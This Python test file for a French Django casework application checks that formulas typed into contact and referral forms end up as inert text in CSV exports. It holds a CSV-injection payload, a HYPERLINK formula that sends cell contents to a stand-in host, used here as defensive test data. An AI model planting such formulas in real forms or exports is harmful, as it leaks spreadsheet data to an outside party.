"""A formula typed into the public contact form or the landlord's referral form reads as text in every CSV export
(caseload, landlord export, evaluation): OWASP's prefix, through portal.csv_export."""

import csv
import io
from datetime import timedelta

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from casework.models import Case, ContactRequest
from tests.casework.factories import ProgrammeFactory
from tests.conftest import verify_client
from tests.home.factories import make_home, publish

FORMULA = '=HYPERLINK("http://malveillant.example/?d="&A1,"Cliquez")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

pytestmark = pytest.mark.django_db


@pytest.fixture
def programme(association, landlord):
    return ProgrammeFactory(association=association, landlord=landlord, name="@Programme")


def cells(response):
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";") for cell in row]


def assert_inert(all_cells):
    formulas = [cell for cell in all_cells if cell.startswith(DANGEROUS) and not cell[1:2].isdigit()]
    assert not formulas, formulas


def household_asks_through_the_contact_form(association):
    from home.models import ContactPage

    publish(make_home(association), ContactPage(title="Contact", slug="contact"))
    response = Client().post(
        "/demande-de-rappel/",
        {
            "name": FORMULA,
            "channel": "phone",
            "phone": "06 12 34 56 78",
            "email": "",
            "preferred_times": "",
            "message": "Retard de loyer",
            "consent": "on",
            "website": "",
        },
    )
    assert response.status_code == 302
    return ContactRequest.objects.get()


def tenancy_fields(**overrides):
    return {
        "household_size": 1,
        "address": "2 rue",
        "postcode": "45000",
        "commune": "Orléans",
        "moved_in_on": (timezone.localdate() - timedelta(days=60)).isoformat(),
        "monthly_rent": "450",
        "monthly_apl": "0",
        "guarantee": "none",
        "arrears_amount": "900",
        **overrides,
    }


def test_formulas_planted_by_the_household_and_the_landlord_read_as_text(
    programme, association, worker, coordinator, landlord_referent
):
    item = household_asks_through_the_contact_form(association)
    staff = verify_client(Client(), worker)
    staff.post(
        reverse("casework:contact_request", args=[item.pk]),
        {
            "open": "1",
            "programme": programme.pk,
            "lease_reference": "B-9",
            "tenant_first_name": item.name,  # the form offers the name the household typed
            "tenant_last_name": "S",
            **tenancy_fields(),
        },
    )
    landlord = verify_client(Client(), landlord_referent)
    landlord.post(
        reverse("casework:referral_new"),
        {
            "programme": programme.pk,
            "lease_reference": "-1+1",
            "tenant_first_name": "Nora",
            "tenant_last_name": FORMULA,
            "landlord_attempts": "Deux appels",
            "attempts_unanswered": "on",
            **tenancy_fields(arrears_amount="1200"),
        },
    )
    assert Case.objects.count() == 2

    caseload = cells(verify_client(Client(), coordinator).get(reverse("casework:caseload_csv")))
    assert_inert(caseload)
    assert "'" + FORMULA + " S" in caseload and "'Nora " + FORMULA[1:] not in caseload
    landlord_export = cells(landlord.get(reverse("casework:landlord_csv")))
    assert_inert(landlord_export)
    assert "'-1+1" in landlord_export
    evaluation = cells(staff.get(reverse("evaluation:csv", args=[programme.pk]) + "?periode=12m"))
    assert_inert(evaluation)
    assert "'@Programme" in evaluation
